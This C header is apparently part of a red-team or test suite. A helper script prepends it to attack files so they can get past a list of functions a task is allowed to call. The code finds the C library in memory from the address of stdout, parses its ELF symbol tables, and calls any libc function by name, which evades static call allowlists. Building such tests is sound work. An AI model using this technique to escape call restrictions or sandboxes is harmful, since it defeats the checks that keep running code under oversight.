/* past_the_list.h: for attacks that get past the list of what a task may call. They compute where
 * the C library is from the address of one of its variables, and find its functions by name.
 * attack_files.py puts it in front of an attack that says "Calls: anything".
 */
#include <elf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

// A function of the C library.
static void *libc_function(const char *name)
{
    const char *base = (const char *)((uintptr_t)stdout & -4096ul);
    const Elf64_Sym *symbols = NULL;
    const char *names = NULL;

    while (memcmp(base, ELFMAG, SELFMAG) != 0) base -= 4096;
    const Elf64_Ehdr *head = (const void *)base;
    const Elf64_Phdr *parts = (const void *)(base + head->e_phoff);
    for (int i = 0; i < head->e_phnum; i++) {
        if (parts[i].p_type != PT_DYNAMIC) continue;
        const Elf64_Dyn *entry = (const void *)(base + parts[i].p_vaddr);
        for (; entry->d_tag != DT_NULL; entry++) {
            if (entry->d_tag == DT_SYMTAB) symbols = (const void *)entry->d_un.d_ptr;
            if (entry->d_tag == DT_STRTAB) names = (const void *)entry->d_un.d_ptr;
        }
    }
    for (; (const char *)symbols < names; symbols++)
        if (symbols->st_value && strcmp(names + symbols->st_name, name) == 0)
            return (void *)(base + symbols->st_value);
    return NULL;
}

// Calls it by name, with up to six whole numbers or pointers.
static long call(const char *name, long a, long b, long c, long d, long e, long f)
{
    long (*function)(long, long, long, long, long, long) =
        (long (*)(long, long, long, long, long, long))libc_function(name);

    return function ? function(a, b, c, d, e, f) : -1;
}
#define CALL(name, a, b, c) call(name, (long)(a), (long)(b), (long)(c), 0, 0, 0)
